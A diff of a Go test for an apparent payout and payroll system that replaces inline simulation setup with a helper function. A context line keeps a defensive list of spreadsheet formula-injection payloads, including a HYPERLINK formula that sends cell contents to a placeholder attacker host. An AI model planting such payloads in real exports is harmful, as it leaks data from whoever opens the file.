@@ -22,18 +22,10 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"github.com/payrun/payrun/internal/fielderr"
-	"github.com/payrun/payrun/internal/secret"
 	"github.com/payrun/payrun/ledger"
 	"github.com/payrun/payrun/payout"
-	"github.com/payrun/payrun/payout/nacha"
 	"github.com/payrun/payrun/payout/publisher"
-	"github.com/payrun/payrun/payout/release"
-	"github.com/payrun/payrun/payout/sepa"
-	"github.com/payrun/payrun/payout/store"
 	"github.com/payrun/payrun/reports"
-	"github.com/payrun/payrun/sim"
-	"github.com/payrun/payrun/tax/taxstore"
-	"github.com/payrun/payrun/testsupport/dbtest"
 )
 
 // hostile are transaction ids a spreadsheet would evaluate: the import
@@ -51,22 +43,8 @@ var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "@SUM(1
 func TestExportsOfASimulatedMarketplace(t *testing.T) {
 	t.Parallel()
 	ctx := context.Background()
-	database := dbtest.New(t)
-	sealer, err := secret.FromConfig("", true)
-	require.NoError(t, err)
-	first := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
-	clock := sim.NewClock(first.AddDate(0, -4, 0))
-	s := &sim.Services{DB: database, Clock: clock, Store: &store.Store{DB: database, Sealer: sealer, Clock: clock.Now},
-		Taxes: &taxstore.Store{DB: database, Sealer: sealer}, Import: ledger.ImportOptions{HoldingPeriod: 30 * 24 * time.Hour}}
-	config := release.Config{
-		Originator: nacha.Originator{ImmediateDestination: "011000015", ImmediateDestinationName: "DEMO BANK", ImmediateOrigin: "1123456789",
-			ImmediateOriginName: "PAYRUN SIM", CompanyName: "PAYRUN SIM", CompanyID: "1123456789", CompanyEntryDescription: "PAYOUT", ODFIRouting: "01100001"},
-		Debtor:        sepa.Debtor{Name: "PAYRUN SIM", IBAN: "DE89370400440532013000", BIC: "COBADEFFXXX", Country: "DE"},
-		PayPalSubject: "Your payout",
-	}
-	_, err = sim.Run(ctx, s, sim.Options{Seed: 11, Publishers: 20, Months: 3, FirstMonth: first, Policy: payout.DefaultPolicy(),
-		OutDir: t.TempDir(), Release: config}, nil)
-	require.NoError(t, err)
+	s := simulated(t, 11, 20, 3)
+	database, clock := s.DB, s.Clock
 
 	// The publisher with the most payments, then lines.
 	var busiest struct {
